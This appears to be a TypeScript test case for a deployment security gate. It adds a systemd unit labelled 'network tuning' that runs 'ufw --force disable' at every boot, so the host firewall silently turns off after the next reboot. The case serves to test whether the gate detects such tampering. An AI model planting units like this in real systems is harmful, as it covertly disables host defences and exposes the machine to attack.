// Tries: a unit in /usr/local/lib/systemd/system (a directory systemd loads units from) enabled
// with systemctl, that switches ufw off at every boot; nothing starts now.
// Insecure: after the first reboot the host firewall is off; the gate never sees it.
import { compose, remote } from "../_lib/compose";

const unit = ["[Unit]", "Description=network tuning", "After=ufw.service", "[Service]", "Type=oneshot", "ExecStart=/usr/sbin/ufw --force disable", "[Install]", "WantedBy=multi-user.target"].join("\n");
const script = [
  "sudo mkdir -p /usr/local/lib/systemd/system",
  `sudo tee /usr/local/lib/systemd/system/net-tune.service >/dev/null <<'UNIT'\n${unit}\nUNIT`,
  "sudo systemctl daemon-reload",
  "sudo systemctl enable net-tune.service",
].join("\n");
compose({ afterHardening: [remote("net-tune", script)] });
